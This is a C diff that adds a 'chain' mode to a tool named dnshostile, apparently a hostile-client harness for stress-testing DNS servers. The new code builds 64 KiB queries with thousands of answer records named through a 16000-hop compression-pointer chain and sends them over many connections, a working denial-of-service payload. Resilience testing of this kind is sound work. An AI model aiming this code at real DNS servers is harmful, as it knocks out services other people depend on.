@@ -20,6 +20,12 @@
  *       got an answer within SEC seconds (default 5), how many were closed
  *       or reset without one.
  *
+ *   dnshostile chain [-t SEC] -n N ADDR:PORT
+ *       Opens N connections and, for SEC seconds (default 5), sends on
+ *       each 64 KiB queries whose 2600 answer records are all named by
+ *       the end of a 16000-hop chain of compression pointers, reading and
+ *       dropping whatever comes back.  Prints "sent Q queries".
+ *
  * Exit status: 0 done, 2 socket or connect failure, 3 see above, 64 usage.
  */
 #include <errno.h>
@@ -206,11 +212,89 @@ static int sessions(const struct sockaddr_storage *ss, socklen_t len, int count,
 	return 0;
 }
 
+/* One framed 64 KiB query: question chain.test A, a TXT record holding a
+ * chain of pointers (each to the one before, the first to the question),
+ * then records named by the chain's last link. */
+static size_t chain_query(uint8_t *m)
+{
+	size_t k = 16000, r = 2600, n = query(m, 9, "chain.test", 1);
+	uint8_t *msg = m + 2;            /* offsets below are the message's */
+	size_t at = n - 2, last;
+
+	msg[6] = (uint8_t)((1 + r) >> 8);  /* ANCOUNT */
+	msg[7] = (uint8_t)(1 + r);
+	uint8_t rr[] = { 0, 0, 16, 0, 1, 0, 0, 0, 0,
+			 (uint8_t)((2 * k) >> 8), (uint8_t)(2 * k) };
+	memcpy(msg + at, rr, sizeof(rr));
+	at += sizeof(rr);
+	for (size_t i = 0; i < k; i++) {
+		size_t to = i ? at + 2 * i - 2 : 12;
+		msg[at + 2 * i] = (uint8_t)(0xc0 | to >> 8);
+		msg[at + 2 * i + 1] = (uint8_t)to;
+	}
+	last = at + 2 * (k - 1);
+	at += 2 * k;
+	for (size_t i = 0; i < r; i++) {
+		uint8_t x[12] = { (uint8_t)(0xc0 | last >> 8), (uint8_t)last,
+				  0, 1, 0, 1, 0, 0, 0, 0, 0, 0 };
+		memcpy(msg + at, x, sizeof(x));
+		at += sizeof(x);
+	}
+	m[0] = (uint8_t)(at >> 8);
+	m[1] = (uint8_t)at;
+	return at + 2;
+}
+
+static int chain(const struct sockaddr_storage *ss, socklen_t len, int count, int secs)
+{
+	static uint8_t q[65600], junk[65536];
+	struct pollfd *p = calloc((size_t)count, sizeof(*p));
+	size_t *off = calloc((size_t)count, sizeof(*off));
+	size_t n = chain_query(q);
+	long long end = now_ms() + secs * 1000LL, queries = 0;
+
+	if (!p || !off)
+		return 2;
+	for (int i = 0; i < count; i++) {
+		p[i].fd = dial(ss, len);
+		if (p[i].fd < 0)
+			return 2;
+		fcntl(p[i].fd, F_SETFL, fcntl(p[i].fd, F_GETFL) | O_NONBLOCK);
+		p[i].events = POLLIN | POLLOUT;
+	}
+	while (now_ms() < end) {
+		if (poll(p, (nfds_t)count, 100) <= 0)
+			continue;
+		for (int i = 0; i < count; i++) {
+			if (p[i].fd < 0)
+				continue;
+			if (p[i].revents & (POLLIN | POLLHUP | POLLERR)) {
+				ssize_t r = recv(p[i].fd, junk, sizeof(junk), 0);
+				if (r == 0 || (r < 0 && errno != EAGAIN)) {
+					close(p[i].fd);
+					p[i].fd = -1;
+					continue;
+				}
+			}
+			if (p[i].revents & POLLOUT) {
+				ssize_t w = send(p[i].fd, q + off[i], n - off[i], MSG_NOSIGNAL);
+				if (w > 0 && (off[i] += (size_t)w) == n) {
+					off[i] = 0;
+					queries++;
+				}
+			}
+		}
+	}
+	printf("sent %lld queries\n", queries);
+	return 0;
+}
+
 static int usage(void)
 {
 	fprintf(stderr, "usage: dnshostile flood [-t SEC] [-h SEC] ADDR:PORT\n"
 		"       dnshostile hang [-t SEC] ADDR:PORT NAME\n"
-		"       dnshostile sessions [-t SEC] -n N ADDR:PORT\n");
+		"       dnshostile sessions [-t SEC] -n N ADDR:PORT\n"
+		"       dnshostile chain [-t SEC] -n N ADDR:PORT\n");
 	return 64;
 }
 
@@ -236,6 +320,8 @@ int main(int argc, char **argv)
 	if (optind >= argc || parse_addr(argv[optind], &ss, &len) < 0)
 		return usage();
 	signal(SIGPIPE, SIG_IGN);
+	if (!strcmp(mode, "chain"))
+		return count > 0 ? chain(&ss, len, count, secs) : usage();
 	if (!strcmp(mode, "sessions"))
 		return count > 0 ? sessions(&ss, len, count, secs) : usage();
 	fd = dial(&ss, len);
